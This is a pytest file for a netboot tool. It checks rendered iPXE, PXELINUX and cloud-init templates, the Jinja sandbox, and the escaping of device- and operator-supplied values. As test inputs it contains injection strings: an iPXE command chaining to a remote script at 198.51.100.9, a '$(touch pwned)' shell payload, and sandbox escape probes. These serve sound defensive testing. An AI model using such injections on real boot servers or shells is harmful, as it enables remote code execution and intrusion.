"""Golden tests for every shipped template, and the sandbox/validation rules of render.py.

Regenerate the golden files after a deliberate template change with
``NETBOOT_UPDATE_GOLDEN=1 python -m pytest tests/test_render.py`` and review the diff.
"""

from __future__ import annotations

import dataclasses
import functools
import json
import os
import time
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import jinja2
import pytest
import yaml

from netboot.arrival import arrived
from netboot.content import PER_MACHINE, STABLE, Content, register_command
from netboot.enroll import check_hostname
from netboot.errors import ConfigError, RenderError, ValidationError
from netboot.model import (
    Arch,
    BootAction,
    BootPlan,
    Cluster,
    K3sJoin,
    MacAddress,
    Machine,
    MachineState,
    Profile,
    Role,
)
from netboot.render import Renderer, ipxe_arg, ipxe_text
from netboot.shipped import templates_dir
from tests.conftest import inotify_instances

GOLDEN = Path(__file__).parent / "data" / "golden"
MAC = MacAddress.parse("52:54:00:00:00:11")
MACHINE = Machine(macs=(MAC,), state=MachineState.BOOTING, hostname="edge-1", cluster="edge",
                  role=Role.AGENT, uuid="8d3a0c51-3b6b-4f0e-9d4c-52e5c1a2b3c4",
                  serial="SN123", updated=1_700_000_000.0, created=1_700_000_000.0)
PROFILE = Profile(name="k3os", kernel="k3os/vmlinuz", initrds=("k3os/initrd",),
                  install_device="/dev/vda", iso_url="http://192.0.2.10:8080/assets/k3os.iso",
                  ssh_authorized_keys=("ssh-ed25519 AAAAC3Nza test@lab",))
CLUSTER = Cluster(name="edge", server_url="https://192.0.2.50:6443", token="s3cret",
                  labels={"site": "lab"})
K3S = K3sJoin(Role.AGENT, "https://192.0.2.50:6443", False, "s3cret", {"site": "lab"},
              ("dedicated=edge:NoSchedule",), "edge-1")


def renderer() -> Renderer:
    return Renderer([templates_dir()])


def content() -> Content:
    return Content(None, None, renderer(), None, lambda: "http://192.0.2.10:8080",  # type: ignore[arg-type]
                   None)  # type: ignore[arg-type]


def plan(action: BootAction, **kw: object) -> BootPlan:
    base: dict[str, object] = {"machine": MACHINE, "profile": PROFILE, "cluster": CLUSTER,
                               "k3s": K3S, "token": "TOKEN123"}
    base.update(kw)
    return BootPlan(action, MAC, f"test {action}", retry_seconds=15, **base)  # type: ignore[arg-type]


def golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if os.environ.get("NETBOOT_UPDATE_GOLDEN") == "1":
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    assert text == path.read_text(encoding="utf-8"), f"golden {name} differs"


@pytest.mark.parametrize("action", list(BootAction))
def test_ipxe_templates(action: BootAction) -> None:
    c = content()
    text = c._render.ipxe(f"ipxe/{action}.ipxe", c.context(plan(action)))
    golden(f"ipxe-{action}.ipxe", text)
    assert text.startswith("#!ipxe\n")


def test_a_held_machine_with_a_fixed_address_asks_dhcp_again_each_round() -> None:
    """A machine with a fixed_ipv4 is served its install only at that address; held at a
    pool address (a NIC no operator listed yet, identity.UNLISTED) it would ask from there
    after being listed, held again, until power-cycled: iPXE's DHCP runs only at its start.
    Each round of its hold asks DHCP again (``dhcp netX``: the NIC it booted from, iPXE's
    "netX" since 2013) before asking its script; a machine without one is unchanged."""
    c = content()
    pinned = plan(BootAction.HOLD, machine=replace(MACHINE, fixed_ipv4="192.0.2.50"))
    text = c._render.ipxe("ipxe/hold.ipxe", c.context(pinned))
    commands = [cmd for cmd in _ipxe_commands(text) if cmd]
    assert commands[-3:] == [["sleep", "15"], ["dhcp", "netX"], [
        "chain", "--autofree", "--replace", "http://192.0.2.10:8080/boot.ipxe"]], text
    plain = c._render.ipxe("ipxe/hold.ipxe", c.context(plan(BootAction.HOLD)))
    assert "dhcp" not in plain


def test_ipxe_install_is_complete() -> None:
    c = content()
    text = c._render.ipxe("ipxe/install.ipxe", c.context(plan(BootAction.INSTALL)))
    (kernel_line,) = [ln for ln in text.splitlines() if ln.startswith("kernel ")]
    assert kernel_line.startswith(
        "kernel http://192.0.2.10:8080/assets/k3os/vmlinuz initrd=initrd ")
    for arg in ("k3os.mode=install", "k3os.install.silent=true", "k3os.install.device=/dev/vda",
                "k3os.install.config_url=http://192.0.2.10:8080/config/52-54-00-00-00-11?token=TOKEN123",
                "k3os.install.iso_url=http://192.0.2.10:8080/assets/k3os.iso"):
        assert arg in kernel_line.split()
    assert "initrd --name initrd http://192.0.2.10:8080/assets/k3os/initrd" in text
    assert text.rstrip().endswith("boot")


HOSTILE = "x && chain http://198.51.100.9/own.ipxe ; #rest\nreboot ${net0/ip} || exit"


def _ipxe_commands(text: str) -> list[list[str]]:
    """``text``'s commands as iPXE runs them: a line ending in a backslash continued by the
    next (script.c, process_script: the backslash dropped, the lines joined), each line
    split at whitespace (exec.c split_command), cut at a token starting with "#" (a comment)
    and at "&&", "||", ";" (command_terminator), which start another command."""
    lines: list[str] = []
    pending = ""
    for raw in text.split("\n")[1:]:
        raw = pending + raw.removesuffix("\r")
        if raw.endswith("\\"):
            pending = raw[:-1]
            continue
        pending = ""
        lines.append(raw)
    commands: list[list[str]] = []
    for line in lines:
        command: list[str] = []
        for token in line.split():
            if token.startswith("#"):
                break
            if token in ("&&", "||", ";"):
                commands.append(command)
                command = []
            else:
                command.append(token)
        commands.append(command)
    return [c for c in commands if c]


@pytest.mark.parametrize("hostile", [HOSTILE, "x\\"], ids=["commands", "backslash"])
@pytest.mark.parametrize("action", [BootAction.HOLD, BootAction.INSTALL, BootAction.IGNORE,
                                    BootAction.LOCAL])
def test_a_device_or_operator_value_adds_no_ipxe_command(action: BootAction,
                                                         hostile: str) -> None:
    """A serial, product or hostname that a host sent (an untrusted auto rule's hold names
    them in its reason) or an operator wrote, in a shipped iPXE script, runs no command of
    its own (``&& chain``, ``;``, a line break), expands no setting and comments nothing
    out: the same commands as with a plain value."""
    c = content()
    # An install script prints the machine's hostname as it is: a per-machine value the
    # split render fills into the script's skeleton (an `ipxe_text` there made every first
    # install render whole: +114,000 loop instructions, session 37's end run). A hostname
    # is a name wherever it comes from (the API's check_hostname, a hostname template's
    # cleaning, a device's report kept only as an RFC 1123 name: s37-register), so the
    # install case's hostile values are the others it prints.
    with pytest.raises(ValidationError):
        check_hostname(HOSTILE)

    def script(value: str) -> str:
        host = "node-1" if action is BootAction.INSTALL else value
        return c._render.ipxe(f"ipxe/{action}.ipxe", c.context(BootPlan(
            action, MAC, f"auto rule 'r' matched on product={value!r}", retry_seconds=15,
            machine=replace(MACHINE, hostname=host), profile=PROFILE, cluster=CLUSTER,
            k3s=K3S, token="TOKEN123", command=f"netboot machines approve {value}")))

    text = script(hostile)
    names = [c[0] for c in _ipxe_commands(text)]
    assert names == [c[0] for c in _ipxe_commands(script("x"))], text
    assert "${" not in text, text


def test_the_ipxe_filters_encode_what_ipxe_acts_on() -> None:
    assert ipxe_arg("SN 1&&x;y|z#$%") == "SN%201%26%26x%3By%7Cz%23%24%25"
    assert ipxe_arg("To.Be.Filled-By_O.E.M") == "To.Be.Filled-By_O.E.M"
    assert ipxe_text("To Be Filled By O.E.M.; ok #1 a#b") == "To Be Filled By O.E.M.; ok %231 a#b"
    assert ipxe_text("a && b || c ; d\ne ${x} $y") == "a %26& b %7C| c %3B d%0Ae %24{x} $y"
    r = Renderer([templates_dir()])
    assert r.render_string("echo {{ v | ipxe_arg }}", {"v": "a b"}, what="t") == "echo a%20b"
    # A line ending in a backslash is continued by the next (ipxe's script.c): a value at a
    # line's end that ends in one took the next command in as its words (s38-attack).
    assert ipxe_arg("C:\\x\\") == "C:%5Cx%5C"
    assert ipxe_text("C:\\x y\\") == "C:\\x y%5C"


def test_a_value_ending_in_a_backslash_joins_no_line_of_a_site_template() -> None:
    """A site template writing a device's serial last on its kernel line, as README's
    Templates section says (through ipxe_arg): a serial ending in a backslash made iPXE
    read the next line (an imgverify, an initrd) as kernel arguments (s38-attack)."""
    r = Renderer([templates_dir()])
    site = ("#!ipxe\nkernel http://192.0.2.10/vmlinuz serial={{ s | ipxe_arg }}\n"
            "imgverify vmlinuz http://192.0.2.10/vmlinuz.sig\n"
            "echo {{ s | ipxe_text }}\nboot\n")
    plain = _ipxe_commands(r.render_string(site, {"s": "SN1"}, what="t"))
    hostile = _ipxe_commands(r.render_string(site, {"s": "SN1\\"}, what="t"))
    assert [c[0] for c in hostile] == [c[0] for c in plain] == [
        "kernel", "imgverify", "echo", "boot"], hostile


def test_bootstrap_golden() -> None:
    text = content().bootstrap_ipxe()
    golden("boot.ipxe", text)
    for var in ("${netX/mac:hexhyp}", "${uuid}", "${buildarch}", "${platform}",
                "${serial:uristring}", "${manufacturer:uristring}", "${product:uristring}",
                "${asset:uristring}"):
        assert var in text
    assert "goto retry" in text


@pytest.mark.parametrize("action", [BootAction.INSTALL, BootAction.LOCAL, BootAction.HOLD])
def test_pxelinux_templates(action: BootAction) -> None:
    c = content()
    text = c._render.render(f"pxelinux/{action}.cfg", c.context(plan(action)))
    golden(f"pxelinux-{action}.cfg", text)
    if action == BootAction.INSTALL:
        assert "  KERNEL k3os/vmlinuz\n" in text and "  INITRD k3os/initrd\n" in text
        (append,) = [ln for ln in text.splitlines() if ln.strip().startswith("APPEND")]
        assert "config_url=http://192.0.2.10:8080/config/52-54-00-00-00-11?token=TOKEN123" in append


def test_k3os_config_golden_and_valid() -> None:
    text = content().k3os_config(plan(BootAction.INSTALL))
    golden("k3os-config.yaml", text)
    doc = yaml.safe_load(text)
    assert doc["hostname"] == "edge-1"
    assert doc["k3os"]["server_url"] == "https://192.0.2.50:6443"
    assert doc["k3os"]["token"] == "s3cret"
    assert doc["k3os"]["labels"] == {"site": "lab"}
    assert doc["k3os"]["taints"] == ["dedicated=edge:NoSchedule"]
    assert doc["k3os"]["k3s_args"] == ["agent", "--node-name", "edge-1"]
    assert "/api/v1/register" in doc["run_cmd"][0] and "TOKEN123" in doc["run_cmd"][0]


def test_k3os_cluster_init() -> None:
    k3s = K3sJoin(Role.SERVER, None, True, "s3cret", {}, (), "edge-1")
    doc = yaml.safe_load(content().k3os_config(plan(BootAction.INSTALL, k3s=k3s)))
    assert "server_url" not in doc["k3os"]
    assert doc["k3os"]["k3s_args"] == ["server", "--cluster-init", "--node-name", "edge-1"]


def test_a_servers_configs_give_k3s_the_agent_token_golden_and_valid() -> None:
    """A server of a cluster with an agent token (s39-agenttok): k3s's agent-token, the
    secret alone (k3s keeps it as given), in k3s's own config file (0600), which k3OS writes
    with write_files and cloud-init's k3s config holds; its join token stays the token."""
    cluster = dataclasses.replace(CLUSTER, agent_token="agent-s3cret")
    k3s = K3sJoin(Role.SERVER, "https://192.0.2.50:6443", False, "s3cret", {}, (), "edge-1")
    server = plan(BootAction.INSTALL, cluster=cluster, k3s=k3s,
                  machine=dataclasses.replace(MACHINE, role=Role.SERVER))
    text = content().k3os_config(server)
    golden("k3os-config-server.yaml", text)
    doc = yaml.safe_load(text)
    assert doc["k3os"]["token"] == "s3cret"
    (k3s_file,) = doc["write_files"]
    assert k3s_file["path"] == "/etc/rancher/k3s/config.yaml"
    assert k3s_file["permissions"] == "0600"
    assert yaml.safe_load(k3s_file["content"]) == {"agent-token": "agent-s3cret"}
    text = content().nocloud(server, "user-data")
    golden("nocloud-user-data-server", text)
    k3s_config = yaml.safe_load(yaml.safe_load(text)["write_files"][0]["content"])
    assert k3s_config["token"] == "s3cret" and k3s_config["agent-token"] == "agent-s3cret"


@pytest.mark.parametrize("name", ["meta-data", "user-data", "vendor-data"])
def test_nocloud_golden_and_valid(name: str) -> None:
    text = content().nocloud(plan(BootAction.INSTALL), name)
    golden(f"nocloud-{name}", text)
    doc = yaml.safe_load(text)
    if name == "user-data":
        assert text.startswith("#cloud-config\n")
        k3s = yaml.safe_load(doc["write_files"][0]["content"])
        assert k3s["server"] == "https://192.0.2.50:6443" and k3s["token"] == "s3cret"
        assert any("/api/v1/register" in " ".join(cmd) for cmd in doc["runcmd"])
    if name == "meta-data":
        assert doc["local-hostname"] == "edge-1"


def test_a_cloud_init_node_whose_first_boot_never_registered_retries_at_each_boot(
        tmp_path: Path) -> None:
    """cloud-init runs runcmd once per instance: a node whose first boot's hour of register
    tries all failed (netboot down, a wrong route) registered at no later boot (k3OS's
    run_cmd runs each boot). The rendered user-data's per-boot script now runs the register
    command at every boot after runcmd's (cloud_final: scripts_per_boot before scripts_user,
    so not on the first), until one try is answered, then only the machine token's report.
    Boots played as cloud-init plays them, with the user-data's own texts, by the system's
    sh (a cloud-init image's dash; busybox's sh runs its own wget and sleep applets whatever
    PATH says: the register command under busybox is test_register_netns.py's, against the
    real server); the server a fake curl that fails until told to answer; sleep a no-op
    (the hour's 360 tries at once)."""
    import subprocess

    doc = yaml.safe_load(content().nocloud(plan(BootAction.INSTALL), "user-data"))
    files = {f["path"]: f["content"] for f in doc["write_files"]}
    root = tmp_path / "root"
    root.mkdir()

    def here(text: str) -> str:
        return text.replace("/var/lib/netboot", str(root))
    (root / "register").write_text(here(files["/var/lib/netboot/register"]))
    per_boot = tmp_path / "per-boot"
    per_boot.write_text(here(files["/var/lib/cloud/scripts/per-boot/netboot-register"]))
    k3s_install, *runcmd = doc["runcmd"]
    assert "get.k3s.io" in " ".join(k3s_install)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    client, path = "curl", f"{bin_dir}:/usr/bin:/bin"
    calls, up = tmp_path / "calls", tmp_path / "up"
    # The server: every try recorded; refused (curl -f's and wget's exit 1) until it is up.
    (bin_dir / client).write_text(
        '#!/bin/sh\n'
        f'echo "$@" >> {calls}\n[ -f {up} ] || exit 1\n'
        'echo \'{"machine_token": "mt-1"}\'\n')
    (bin_dir / client).chmod(0o755)
    (bin_dir / "sleep").write_text("#!/bin/sh\n")
    (bin_dir / "sleep").chmod(0o755)
    env = {"PATH": path}
    sh = "sh"

    def tries() -> list[str]:
        return calls.read_text().splitlines() if calls.exists() else []

    def boot(first: bool) -> None:
        # The per-boot script leaves the command to the background: a boot is over when no
        # process of its session is left (awaited, bounded, never timed).
        script = subprocess.Popen([sh, str(per_boot)], env=env, start_new_session=True)
        assert script.wait(30) == 0
        deadline = time.monotonic() + 600
        while _in_session(script.pid) and time.monotonic() < deadline:
            time.sleep(0.05)
        if first:  # runcmd, after the k3s install (not run here)
            for cmd in runcmd:
                assert cmd[:2] == ["sh", "-c"]
                subprocess.run([sh, "-c", here(cmd[2])], env=env, timeout=600,
                               capture_output=True)

    boot(first=True)  # netboot unreachable the whole hour (per-boot: not yet, runcmd's)
    assert len(tries()) == 360 and not (root / "registered").exists()
    assert all('"token":"' in t for t in tries())  # the install token's registration
    calls.unlink()
    boot(first=False)  # still down: the next boot tries again, its hour
    assert len(tries()) == 360
    calls.unlink()
    up.touch()
    boot(first=False)  # up: registered, its machine token kept
    (first_try,) = tries()
    assert '"token":"' in first_try and '"machine_token":"' not in first_try
    assert (root / "registered").exists() and (root / "machine-token").read_text() == "mt-1"
    calls.unlink()
    boot(first=False)  # registered: only the machine token's report of where it is
    (report,) = tries()
    assert '"machine_token":"mt-1"' in report and '"token":"' not in report
    # A node registered by an older netboot (no machine token kept): nothing more.
    calls.unlink()
    (root / "machine-token").unlink()
    boot(first=False)
    assert tries() == []


def _in_session(sid: int) -> bool:
    """Whether a process of session ``sid`` is left (procps's pgrep -s)."""
    import subprocess

    return subprocess.run(["pgrep", "-s", str(sid)], stdout=subprocess.DEVNULL,
                          check=False).returncode == 0


def test_uboot_script_image() -> None:
    from netboot.wire import uimage

    image = uimage.decode(content().uboot_script())
    (script,) = image.scripts
    assert b"pxe get && pxe boot" in script
    assert not any(line.startswith(b"#") for line in script.splitlines())


def test_default_cmdline_for_cloud_init() -> None:
    p = Profile(name="ci", kernel="vmlinuz", config_template="cloud-init")
    ctx = content().context(plan(BootAction.INSTALL, profile=p))
    assert ctx["cmdline"].startswith(
        "ds=nocloud;s=http://192.0.2.10:8080/nocloud/52-54-00-00-00-11/TOKEN123/ ")


def test_cmdline_must_be_one_line_and_no_hash() -> None:
    p = Profile(name="x", kernel="vmlinuz", cmdline="a=1\n  b=2\tc={{ mac_hexhyp }}")
    assert content().context(plan(BootAction.INSTALL, profile=p))["cmdline"] == \
        "a=1 b=2 c=52-54-00-00-00-11"
    bad = Profile(name="x", kernel="vmlinuz", cmdline="quiet #comment")
    with pytest.raises(RenderError, match=r"^profile x cmdline: a kernel argument starts with '#'"):
        content().context(plan(BootAction.INSTALL, profile=bad))
    # A command line that does not render says whose it is too (the name made only then).
    broken = Profile(name="edge-x86", kernel="vmlinuz", cmdline="a={{ mac | nosuchfilter }}")
    with pytest.raises(RenderError, match=r"^profile edge-x86 cmdline: .*nosuchfilter"):
        content().context(plan(BootAction.INSTALL, profile=broken))


def test_cmdline_compiled_once_and_an_edited_one_renders_anew() -> None:
    r = renderer()
    ctx = {"mac": "m1"}
    assert r.cmdline("a={{ mac }}", ctx, "p") == "a=m1"
    assert r.cmdline("a={{ mac }}", {"mac": "m2"}, "p") == "a=m2"
    assert r.cmdline("b={{ mac }}", ctx, "p") == "b=m1"  # the profile was edited
    for i in range(300):  # more distinct texts than are kept: the oldest give way
        assert r.cmdline(f"n={i}", ctx, "p") == f"n={i}"
    assert r.cmdline("a={{ mac }}", ctx, "p") == "a=m1"


def _machines(n: int) -> list[BootPlan]:
    """Plans of ``n`` machines alike but for what is theirs (MAC, hostname, token, arch),
    each action and config template, with and without a hostname."""
    plans = []
    for i in range(n):
        mac = MacAddress.parse(f"52:54:00:00:01:{i:02x}")
        machine = dataclasses.replace(MACHINE, macs=(mac,), hostname=None if i % 3 == 0
                                      else f"edge-{i}", uuid=None, serial=f"SN{i}",
                                      arch=(None, Arch.X86_64, Arch.ARM64)[i % 3])
        profile = PROFILE if i % 2 else dataclasses.replace(PROFILE, config_template="cloud-init",
                                                            iso_url=None)
        for action in BootAction:
            plans.append(dataclasses.replace(
                plan(action, machine=machine, profile=profile, token=f"T{i}" if i % 4 else None,
                     k3s=dataclasses.replace(K3S, node_name=f"node-{i}")), mac=mac))
    return plans


def test_split_render_equals_the_whole_render_for_every_shipped_template() -> None:
    """Scripts and command lines are rendered once per profile and reason, the per-machine
    values filled in (Renderer.render's ``volatile``): the same text as a whole render."""
    split, whole = content(), content()
    split._render = Renderer([templates_dir()], volatile=PER_MACHINE, stable=STABLE)
    names = sorted(p.relative_to(templates_dir()).as_posix()
                   for p in (templates_dir() / "ipxe").glob("*.ipxe"))
    for p in _machines(12):
        for name in names:
            ctx = whole.context(p)
            assert ctx == split.context(p)
            expected = whole._render.render(name, ctx)
            assert split._render.ipxe(name, ctx) == expected, name
        for source in ("k3os.txt", "cloud-init.txt"):
            text = (templates_dir() / "cmdline" / source).read_text()
            assert split._render.cmdline(text, ctx, "t") == \
                whole._render.cmdline(text, ctx, "t")
    # It was split, not rendered whole: one skeleton per template and distinct rest.
    kept = {key: s for key, s in split._render._splits.values() if s is not None}
    assert len(kept) >= 4
    assert all(len(s.skeletons) < 12 for s in kept.values())
    assert split._render._frozen  # the profiles' dicts keyed by their serials


@pytest.mark.parametrize("source", [
    "#!ipxe\necho {{ mac }} {{ machine.hostname or mac }} {{ machine['serial'] }}\n",
    "#!ipxe\n{% for x in profile.initrds %}{{ x }} {{ mac }} {{ token and config_url }}\n"
    "{% endfor %}",
    "#!ipxe\n{% if machine.hostname %}named {{ machine.hostname }}{% endif %}\n",  # a test on it
    "#!ipxe\n{{ mac | upper }} {{ mac ~ '-x' }} {{ machine.hostname | default('none') }}\n",
    "#!ipxe\n{% set mac = 'fixed' %}{{ mac }}\n",  # it sets one: whole
    "#!ipxe\n{% for mac in profile.initrds %}{{ mac }}{% endfor %}{{ token }}\n",
    "#!ipxe\n{% macro m(x) %}{{ x }}{% endmacro %}{{ m(mac) }} {{ token }}\n",
    "#!ipxe\n{{ machine.no_such_field }}\n",  # undefined: the whole render says so
    "#!ipxe\n{{ plan.reason }}{{ '\\x001' }}{{ mac }}\n",  # a NUL of its own, a mark's look
    "#!ipxe\n{{ _nb_slot_0 | default('') }}{{ mac }}\n",
    "#!ipxe\n{{ machine.hostname or no_such_name }} {{ mac }}\n",
    "#!ipxe\n{{ machine.__class__ }} {{ mac }}\n",  # the sandbox's answer, both ways
    "#!ipxe\n{{ k3s.labels }} {{ machine.facts }} {{ plan }} {{ console }}\n",
    # The skeleton is a %-format: its own % signs stay text, its slots in any order.
    "#!ipxe\n100% {{ mac }} %s %% %(mac)s %d {{ token }} 50%\n",
    "#!ipxe\n{% for x in profile.initrds %}{{ token }}%{{ mac }} {% endfor %}{{ mac }}%\n",
])
def test_split_render_of_user_templates_equals_the_whole_render(tmp_path: Path,
                                                                 source: str) -> None:
    """Any template an operator writes: split where it only prints the per-machine values,
    rendered whole otherwise; the text (or the error) is the same either way."""
    (tmp_path / "ipxe").mkdir()
    (tmp_path / "ipxe" / "install.ipxe").write_text(source)
    split, whole = Renderer([tmp_path, templates_dir()]), Renderer([tmp_path, templates_dir()])
    c = content()
    for p in _machines(6):
        ctx = c.context(p)
        try:
            expected: str | type[Exception] = whole.render("ipxe/install.ipxe", ctx)
        except RenderError as exc:
            with pytest.raises(RenderError) as got:
                split.render("ipxe/install.ipxe", ctx, volatile=PER_MACHINE)
            assert str(got.value) == str(exc)
            continue
        assert split.render("ipxe/install.ipxe", ctx, volatile=PER_MACHINE) == expected
        assert split.render_string(source, ctx, what="t", volatile=PER_MACHINE) == expected


def test_split_render_follows_an_edited_template(tmp_path: Path) -> None:
    (tmp_path / "ipxe").mkdir()
    path = tmp_path / "ipxe" / "hold.ipxe"
    path.write_text("#!ipxe\necho one {{ mac }}\n")
    r = Renderer([tmp_path, templates_dir()])
    assert r.render("ipxe/hold.ipxe", {"mac": "m1"}, volatile=PER_MACHINE) == \
        "#!ipxe\necho one m1\n"
    path.write_text("#!ipxe\necho two {{ mac }} {{ plan }}\n")
    st = path.stat()
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns + 2_000_000_000))  # a later mtime
    assert r.render("ipxe/hold.ipxe", {"mac": "m2", "plan": "p"}, volatile=PER_MACHINE) == \
        "#!ipxe\necho two m2 p\n"


def test_strict_undefined_and_sandbox(tmp_path: Path) -> None:
    (tmp_path / "ipxe").mkdir()
    (tmp_path / "ipxe" / "local.ipxe").write_text("#!ipxe\necho {{ no_such_thing }}\n")
    (tmp_path / "ipxe" / "hold.ipxe").write_text("#!ipxe\n{{ ''.__class__.__mro__ }}\n")
    (tmp_path / "ipxe" / "ignore.ipxe").write_text("not a script\n")
    r = Renderer([tmp_path, templates_dir()])
    with pytest.raises(RenderError, match="no_such_thing"):
        r.ipxe("ipxe/local.ipxe", {})
    with pytest.raises(RenderError):
        r.ipxe("ipxe/hold.ipxe", {})
    with pytest.raises(RenderError, match="#!ipxe"):
        r.ipxe("ipxe/ignore.ipxe", {})
    # Site overrides win; files not overridden come from the shipped set.
    assert r.render("uboot/boot.scr.txt", {}).startswith("# netboot")


def test_an_undefined_name_is_said_with_its_line(tmp_path: Path) -> None:
    """README (Templates): "a failure while rendering (an undefined name, ...) is a render
    error naming the template and line". An undefined name named the template alone: a
    site's config template of a hundred lines, a device's config a 500 to search. Found by
    s40-attack (a config with a template error)."""
    (tmp_path / "cloud-config").mkdir()
    (tmp_path / "cloud-config" / "k3os.yaml").write_text(
        "# a site's config\nhostname: x\nrack: {{ machine.labels['nope'] }}\n")
    (tmp_path / "outer.yaml").write_text("a: 1\n{% include 'cloud-config/k3os.yaml' %}\n")
    r = Renderer([tmp_path, templates_dir()])
    context = {"machine": {"labels": {}}}
    with pytest.raises(RenderError, match=r"^template 'cloud-config/k3os.yaml', line 3: "
                                          r".*has no attribute 'nope'"):
        r.yaml_document("cloud-config/k3os.yaml", context)
    with pytest.raises(RenderError, match=r"^template 'outer.yaml', line 3 of k3os.yaml: "):
        r.render("outer.yaml", context)


def test_invalid_yaml_output_is_render_error(tmp_path: Path) -> None:
    (tmp_path / "cloud-config").mkdir()
    (tmp_path / "cloud-config" / "k3os.yaml").write_text("a: [unclosed\n")
    r = Renderer([tmp_path, templates_dir()])
    with pytest.raises(RenderError, match="invalid YAML"):
        r.yaml_document("cloud-config/k3os.yaml", {})


@pytest.mark.parametrize("loader", ["SafeLoader", "CSafeLoader"])
def test_invalid_yaml_output_names_its_line_not_its_text(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, loader: str) -> None:
    """A config rendering invalid YAML names the line and column, never the line's text:
    PyYAML without libyaml (its pure-Python parser) printed the rendered line, here the join
    token's, into the error, which is a ``render failed`` event a read token and the event
    stream are shown (s42-attack)."""
    import yaml

    from netboot import render as render_module

    if not hasattr(yaml, loader):
        pytest.skip(f"PyYAML built without {loader}")
    monkeypatch.setattr(render_module, "_LOADER", getattr(yaml, loader))
    (tmp_path / "cloud-config").mkdir()
    (tmp_path / "cloud-config" / "k.yaml").write_text(
        "a: 1\ntoken: {{ k3s.token | tojson }} {{ k3s.token }}\n")
    r = Renderer([tmp_path])
    secret = "K10-join-token-never-shown"
    with pytest.raises(RenderError, match="invalid YAML") as refused:
        r.yaml_document("cloud-config/k.yaml", {"k3s": {"token": secret}})
    assert secret not in str(refused.value), str(refused.value)
    assert "line 2, column " in str(refused.value), str(refused.value)


def test_syntax_error_stops_startup_with_file_and_line(tmp_path: Path) -> None:
    (tmp_path / "ipxe").mkdir()
    (tmp_path / "ipxe" / "local.ipxe").write_text("#!ipxe\n\n{% if %}\n")
    with pytest.raises(ConfigError) as err:
        Renderer([tmp_path]).check_all()
    assert err.value.line == 3 and "local.ipxe" in (err.value.source or "")


@pytest.mark.parametrize("expression", ["machine.__class__", "machine['__class__']",
                                        "machine | attr('__class__')"])
def test_an_attribute_the_sandbox_refuses_stops_startup(tmp_path: Path,
                                                          expression: str) -> None:
    """Rendered, it fails every boot it serves with SecurityError; found at start-up, it
    names the file and line, as a syntax error does (s35-user)."""
    (tmp_path / "ipxe").mkdir()
    (tmp_path / "ipxe" / "local.ipxe").write_text(f"#!ipxe\n\necho {{{{ {expression} }}}}\n")
    with pytest.raises(ConfigError) as err:
        Renderer([tmp_path]).check_all()
    assert err.value.line == 3 and "local.ipxe" in (err.value.source or "")
    assert "'__class__'" in err.value.message and "sandbox" in err.value.message


def test_unknown_filter_stops_startup(tmp_path: Path) -> None:
    # Found when the template is translated, not only when it is parsed.
    (tmp_path / "ipxe").mkdir()
    (tmp_path / "ipxe" / "local.ipxe").write_text("#!ipxe\n{{ base_url | no_such_filter }}\n")
    with pytest.raises(ConfigError) as err:
        Renderer([tmp_path]).check_all()
    assert err.value.line == 2 and "no_such_filter" in str(err.value)


def test_register_command_is_valid_shell(tmp_path: Path) -> None:
    import subprocess

    cmd = register_command("http://192.0.2.10:8080/api/v1/register", "52:54:00:00:00:11",
                           "tok", "edge-1")
    # sh -n parses without running: the quoting of the JSON holes must be balanced.
    subprocess.run(["sh", "-n", "-c", cmd], check=True)


def test_register_command_posts_once_then_skips(tmp_path: Path) -> None:
    """Run the command for real against a fake curl: it registers, and a rerun is a no-op."""
    import subprocess

    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    calls = tmp_path / "calls"
    (bin_dir / "curl").write_text(f'#!/bin/sh\necho "$@" >> {calls}\nexit 0\n')
    (bin_dir / "curl").chmod(0o755)
    root = tmp_path / "root"
    cmd = register_command("http://192.0.2.10:8080/api/v1/register", "52:54:00:00:00:11",
                           "tok", "edge-1").replace("/var/lib/netboot", str(root))
    env = {"PATH": f"{bin_dir}:/usr/bin:/bin"}
    for _ in range(2):
        subprocess.run(["sh", "-c", cmd], check=True, env=env, timeout=30)
    lines = calls.read_text().splitlines()
    assert len(lines) == 1 and '"token":"tok"' in lines[0] and '"node_name":"edge-1"' in lines[0]
    assert (root / "registered").exists()


def test_register_command_quotes_odd_values(tmp_path: Path) -> None:
    """A quote or a shell word in a value must reach the server as data, not run."""
    import json
    import subprocess

    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    body = tmp_path / "body"
    # The fake curl writes the argument after -d, i.e. the JSON body exactly as sent.
    (bin_dir / "curl").write_text(
        f'#!/bin/sh\nwhile [ $# -gt 0 ]; do [ "$1" = -d ] && printf %s "$2" > {body}; shift; done\n'
    )
    (bin_dir / "curl").chmod(0o755)
    cmd = register_command("http://192.0.2.10:8080/api/v1/register", "52:54:00:00:00:11",
                           "t'o\"k$(touch pwned)", "edge-1").replace("/var/lib/netboot",
                                                                    str(tmp_path / "root"))
    subprocess.run(["sh", "-c", cmd], check=True, env={"PATH": f"{bin_dir}:/usr/bin:/bin"},
                   cwd=tmp_path, timeout=30)
    sent = json.loads(body.read_text())
    assert sent["token"] == "t'o\"k$(touch pwned)"
    assert not (tmp_path / "pwned").exists()


def test_register_command_runs_on_busybox_alone(tmp_path: Path) -> None:
    """No curl, only busybox applets (a minimal image): busybox wget posts the JSON body.

    The host's name resolves to 127.0.1.1 on k3OS (/etc/hosts), so the command must not
    report an address of its own: netboot takes the one the request came from.
    """
    import json
    import shutil
    import subprocess
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    busybox = shutil.which("busybox")
    assert busybox, "busybox not installed: run tests/install-deps.sh (busybox-static)"
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for applet in ("sh", "[", "hostname", "cat", "mkdir", "touch", "sleep", "wget"):
        (bin_dir / applet).symlink_to(busybox)
    posts: list[tuple[str, str | None, bytes]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            n = int(self.headers.get("Content-Length", "0"))
            posts.append((self.path, self.headers.get("Content-Type"), self.rfile.read(n)))
            out = b'{"state":"registered"}'
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(out)))
            self.end_headers()
            self.wfile.write(out)

        def log_message(self, *args: object) -> None:
            pass

